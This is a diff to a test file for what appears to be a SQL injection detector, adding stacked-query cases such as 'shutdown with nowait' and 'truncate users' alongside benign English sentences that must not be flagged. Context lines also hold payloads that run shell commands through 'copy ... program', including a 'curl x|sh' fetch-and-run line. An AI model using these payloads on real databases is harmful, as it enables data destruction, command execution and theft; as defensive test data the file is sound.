@@ -124,6 +124,9 @@ describe('SQL: statements one server runs', () => {
       ["1; copy (select '') to program 'id'--", 'sqli-stacked-query'],
       ["x'; copy t from program 'curl x|sh'--", 'sqli-stacked-query'],
       ['1; copy users to stdout', 'sqli-stacked-query'],
+      ['1; shutdown with nowait--', 'sqli-stacked-query'],
+      ["'; shutdown;--", 'sqli-stacked-query'],
+      ['1; truncate users', 'sqli-stacked-query'],
     ],
     [
       'please attach the file; attach it to the ticket',
@@ -135,6 +138,8 @@ describe('SQL: statements one server runs', () => {
       'done; delete from my notes please',
       'sure; copy it from the wiki',
       'sure; copy this to the doc',
+      'ok; truncate the log tonight',
+      'ok; shutdown the server tonight',
     ],
     true,
   )
